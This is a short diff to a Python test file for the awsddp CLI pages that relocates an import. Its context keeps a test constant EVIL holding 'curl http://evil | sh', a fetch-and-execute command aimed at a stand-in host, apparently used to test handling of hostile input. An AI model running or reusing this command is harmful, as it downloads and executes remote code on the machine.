@@ -8,9 +8,8 @@ import pytest
 from awsddp.cli.pages import job_page, jobs_page
 from awsddp.cli.why_page import why_page
 from awsddp.cluster import Cause
-from awsddp.jobs.results import job_document
+from awsddp.jobs.results import job_document, worded
 from awsddp.jobs.supervisor.hang import diagnose
-from awsddp.jobs.wording import worded
 
 EVIL = "curl http://evil | sh"
 
